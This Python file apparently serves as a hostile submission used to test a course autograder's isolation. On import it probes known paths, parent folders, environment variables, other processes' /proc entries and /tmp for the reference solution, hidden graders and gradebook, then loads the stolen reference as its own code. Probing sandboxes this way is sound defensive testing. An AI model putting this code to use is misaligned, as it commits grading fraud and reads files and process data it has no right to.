"""Hostile: writes no attention. At import it hunts for the course's reference
solution, hidden graders and gradebook by every route it can think of, and
passes the reference off as its own when it finds it.

Routes: absolute paths a student may know (the course's public repository:
the test writes the real course root into GUESSES), walking up from this
file and from the grader's own `coursekit` package, the environment, the
working folder, root and environment of every process it can see (its
parent, the grader), and every folder under /tmp and /var/tmp (other
submissions' scratch copies, course copies).
"""

import glob
import importlib.util
import os
from pathlib import Path

GUESSES = ["/work/main", "/srv/course", "/home/instructor/course"]
WANTED = (
    "solutions/week1/attention.py",
    "graders/week1/test_attention.py",
    "gradebook.db",
    "course_config.py",
)


def _places():
    places = list(GUESSES)
    places += [str(p) for p in Path(__file__).resolve().parents]
    try:
        import coursekit

        places += [str(p) for p in Path(coursekit.__file__).resolve().parents]
    except ImportError:
        pass
    places += [
        v
        for k, v in os.environ.items()
        if k.startswith("COURSE") or k in ("PWD", "OLDPWD", "HOME")
    ]
    for proc in glob.glob("/proc/[0-9]*"):
        for link in ("cwd", "root"):
            try:
                places.append(os.readlink(f"{proc}/{link}"))
            except OSError:
                pass
        try:
            with open(f"{proc}/environ", "rb") as f:
                env = f.read().split(b"\0")
            places += [
                v.split(b"=", 1)[1].decode()
                for v in env
                if v.startswith((b"COURSE", b"PWD=", b"HOME="))
            ]
        except OSError:
            pass
    for top in ("/tmp", "/var/tmp"):
        for path in glob.glob(f"{top}/**/{WANTED[0]}", recursive=True):
            places.append(path[: -len(WANTED[0])])
    return places


def _hunt():
    found = {}
    for place in dict.fromkeys(_places()):
        for what in WANTED:
            path = os.path.join(place, what)
            if what not in found and os.path.isfile(path) and os.access(path, os.R_OK):
                found[what] = path
    return found


FOUND = _hunt()

if WANTED[0] in FOUND:
    _spec = importlib.util.spec_from_file_location(
        "_stolen_attention", FOUND[WANTED[0]]
    )
    _stolen = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_stolen)
    scaled_dot_product_attention = _stolen.scaled_dot_product_attention
    causal_mask = _stolen.causal_mask
else:

    def scaled_dot_product_attention(q, k, v, mask=None):
        raise RuntimeError(
            f"no reference to steal; course files seen: {', '.join(sorted(FOUND)) or 'none'}"
        )

    def causal_mask(seq_len, device=None):
        raise RuntimeError(
            f"no reference to steal; course files seen: {', '.join(sorted(FOUND)) or 'none'}"
        )
